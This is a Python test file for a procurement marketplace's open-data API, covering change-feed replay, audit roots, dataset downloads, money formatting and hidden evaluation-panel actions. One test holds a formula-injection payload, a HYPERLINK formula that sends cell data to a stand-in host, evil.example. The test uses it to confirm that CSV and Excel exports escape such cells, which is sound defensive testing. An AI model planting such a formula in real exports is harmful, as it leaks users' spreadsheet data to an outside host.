"""The change feed replays into the state the API shows; audit roots are published; downloads stream with their
data dictionaries."""

import csv
import io
import json
from datetime import date, timedelta

from openpyxl import load_workbook
from sqlalchemy import select

from marketplace.catalog.models import CatalogVersion, VersionStatus
from marketplace.contracts.models import Contract, ContractStatus
from marketplace.extensions import db
from marketplace.needs.models import Need
from marketplace.organizations.models import Organization, OrgStatus
from marketplace.tenders import questions
from marketplace.tenders.models import Question, Tender
from tests.api.conftest import get_json


def _follow(client, mirror: dict, since: str = "0") -> str:
    """Apply the feed to a mirror of {(type, id): object} and return the cursor to continue from."""
    while True:
        body = get_json(client, f"/api/v1/changes?since={since}&limit=200")
        for change in body["data"]:
            mirror[(change["type"], change["id"])] = get_json(client, change["url"].split("5000", 1)[1])
        if body["next_cursor"] == since:
            return since
        since = body["next_cursor"]


def _live(client) -> dict:
    keys = [("tender", t.id) for t in db.session.execute(
        select(Tender).where(Tender.published_at.is_not(None))).scalars()]
    keys += [("contract", c.id) for c in db.session.execute(
        select(Contract).where(Contract.status != ContractStatus.awaiting_signatures)).scalars()]
    keys += [("organization", o.id) for o in db.session.execute(select(Organization).where(
        Organization.status.in_([OrgStatus.verified, OrgStatus.suspended, OrgStatus.revoked]))).scalars()]
    keys += [("need", n.id) for n in db.session.execute(select(Need)).scalars()]
    keys += [("catalog", v.id) for v in db.session.execute(select(CatalogVersion).where(
        CatalogVersion.status.in_([VersionStatus.published, VersionStatus.superseded]))).scalars()]
    paths = {"tender": "tenders", "contract": "contracts", "organization": "organizations", "need": "needs",
             "catalog": "catalogs"}
    return {(kind, i): get_json(client, f"/api/v1/{paths[kind]}/{i}") for kind, i in keys}


def test_the_change_feed_replays_into_the_same_state(client, demo, generous_limits):
    mirror: dict = {}
    cursor = _follow(client, mirror)
    assert mirror == _live(client)
    # A later public change reaches the mirror through the feed, from the cursor it kept.
    question = db.session.execute(select(Question).where(Question.answer.is_(None))).scalars().first()
    tender = db.session.get(Tender, question.tender_id)
    buyer = db.session.execute(select(Tender.created_by_id).where(Tender.id == tender.id)).scalar()
    from marketplace.accounts.models import User

    questions.answer(question, "可以，详见招标文件第三章。", by=db.session.get(User, buyer))
    db.session.commit()
    new_cursor = _follow(client, mirror, cursor)
    assert int(new_cursor) > int(cursor)
    assert mirror == _live(client)
    feed = get_json(client, f"/api/v1/changes?since={cursor}")["data"]
    assert [(c["type"], c["id"]) for c in feed] == [("tender", tender.id)]
    everything = get_json(client, "/api/v1/changes?since=0&limit=1000")["data"]
    assert [c["seq"] for c in everything] == sorted(c["seq"] for c in everything)
    assert not {c["type"] for c in everything} - {"tender", "contract", "organization", "need", "catalog"}


def test_audit_roots_are_the_chain_hashes_of_each_day(client, demo):
    from marketplace.audit.models import AuditEvent

    roots = get_json(client, "/api/v1/audit/roots")["data"]
    assert roots
    for root in roots:
        event = db.session.execute(select(AuditEvent).where(AuditEvent.seq == root["seq"])).scalar_one()
        assert event.hash == root["hash"]


def test_downloads_stream_with_their_dictionary(app, client, demo):
    from flask.testing import FlaskClient

    from marketplace.opendata.datasets import DATASETS

    # A plain client (same context as the test) so the body is read as it streams.
    streamed = FlaskClient(app, app.response_class).get("/data/tenders.csv")
    assert streamed.is_streamed and streamed.get_data(as_text=True).count("\n") > 2
    for name in DATASETS:
        response = client.get(f"/data/{name}.csv", buffered=True)
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
        names = [f["field"] for f in get_json(client, f"/data/{name}.dictionary.json")["fields"]]
        assert rows[0] == names and len(rows) > 1, name
        lines = client.get(f"/data/{name}.jsonl", buffered=True).get_data(as_text=True).splitlines()
        assert len(lines) == len(rows) - 1 and list(json.loads(lines[0])) == names
        workbook = load_workbook(io.BytesIO(client.get(f"/data/{name}.xlsx", buffered=True).get_data()),
                                 read_only=True)
        data, guide = workbook.worksheets
        assert [c.value for c in next(data.iter_rows(max_row=1))] == names
        assert len(list(data.iter_rows())) == len(rows) and len(list(guide.iter_rows())) == len(names) + 1
    dump = client.get("/data/all.jsonl", buffered=True).get_data(as_text=True).splitlines()
    assert {json.loads(line)["dataset"] for line in dump} == set(DATASETS)
    assert "数据字典" in client.get("/data/").get_data(as_text=True)


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_spreadsheet_downloads_keep_formulas_as_text(client, frozen_now, generous_limits):
    """A cell that starts like a formula is written behind a quote in every CSV and Excel download."""
    from tests import factories
    from tests.projects.conftest import make_project

    factories.region("110101003", name="+" + "东四街道")
    make_project(title=EVIL, buyer_code="110101003")
    make_project(title="-1+1", value="300000")
    db.session.commit()
    rows = list(csv.reader(io.StringIO(client.get("/data/tenders.csv", buffered=True).get_data(as_text=True))))
    titles = {row[3] for row in rows[1:]}
    assert titles == {"'" + EVIL, "'-1+1"}
    workbook = load_workbook(io.BytesIO(client.get("/data/tenders.xlsx", buffered=True).get_data()), read_only=True)
    cells = [c.value for row in workbook.worksheets[0].iter_rows(min_row=2) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert not [v for v in cells if isinstance(v, str) and v.startswith(("=", "+", "-", "@"))]
    assert 310000 in cells  # numbers stay numbers (the budget)
    region_csv = client.get("/stats/spend-region.csv").get_data(as_text=True)
    assert "'+东四街道" in region_csv and "\n+东四街道" not in region_csv


PANEL_ACTIONS = {"evaluation.member_assigned", "evaluation.member_excused", "evaluation.conflict_declared",
                 "evaluation.scores_saved", "evaluation.scores_submitted", "evaluation.results_computed",
                 "tender.evaluation_blocked"}


def public_actions() -> set[str]:
    from marketplace.api.changes import PUBLIC_ACTIONS

    return {a for actions in PUBLIC_ACTIONS.values() if actions for a in actions}


def assert_feed_actions_are_public(client):
    """Every change-feed entry's action is on an allow-list; the evaluation panel's work never shows."""
    since, actions = "0", set()
    while True:
        body = get_json(client, f"/api/v1/changes?since={since}&limit=1000")
        actions |= {(c["type"], c["action"]) for c in body["data"]}
        if body["next_cursor"] == since:
            break
        since = body["next_cursor"]
    allowed = public_actions()
    assert {a for t, a in actions if not a.startswith("need.")} <= allowed
    assert not {a for _t, a in actions} & PANEL_ACTIONS
    return actions


def test_the_change_feed_names_no_evaluation_panel_activity(client, demo, generous_limits):
    from marketplace.audit.models import AuditEvent

    recorded = set(db.session.execute(select(AuditEvent.action).where(AuditEvent.subject_type == "tender")).scalars())
    assert recorded & PANEL_ACTIONS, "the demo should have evaluated a tender"
    actions = assert_feed_actions_are_public(client)
    assert ("tender", "tender.opened") in actions and ("tender", "award.noticed") in actions


def test_audit_roots_since_a_day_are_those_of_the_full_chain_from_that_day(client, demo):
    from marketplace.audit.services import daily_roots

    every = daily_roots()
    assert len(every) >= 1
    since = every[len(every) // 2]["date"]
    roots = get_json(client, f"/api/v1/audit/roots?since={since}")["data"]
    assert roots == [r for r in every if r["date"] >= since]
    later = (date.fromisoformat(max(r["date"] for r in every)) + timedelta(days=1)).isoformat()
    assert get_json(client, f"/api/v1/audit/roots?since={later}")["data"] == []


def test_money_is_written_to_the_cent_never_through_a_float(client, frozen_now, generous_limits):
    from decimal import Decimal

    from marketplace.api.jsonvalues import dumps, money
    from tests.projects.conftest import make_project

    contract = make_project(value="123456.78", milestones=2)
    db.session.commit()
    text = client.get(f"/api/v1/contracts/{contract.id}").get_data(as_text=True)
    assert '"value":123456.78' in text
    assert json.loads(text, parse_float=Decimal)["contract"]["value"] == Decimal("123456.78")
    line = client.get("/data/contracts.jsonl", buffered=True).get_data(as_text=True)
    assert json.loads(line, parse_float=Decimal)["value"] == Decimal("123456.78")
    assert type(money(Decimal("0.10"))) is Decimal and type(money(Decimal("300000.00"))) is int
    assert dumps({"a": money(Decimal("0.1") + Decimal("0.2")), "b": Decimal("83.50")}) == '{"a":0.3,"b":83.5}'
    assert dumps([money(Decimal("9007199254740993.01"))]) == "[9007199254740993.01]"  # beyond a float's digits


def test_a_cursor_past_every_seq_is_an_empty_page(client):
    body = get_json(client, "/api/v1/changes?since=3000000000")
    assert body["data"] == [] and body["next_cursor"] == "3000000000"
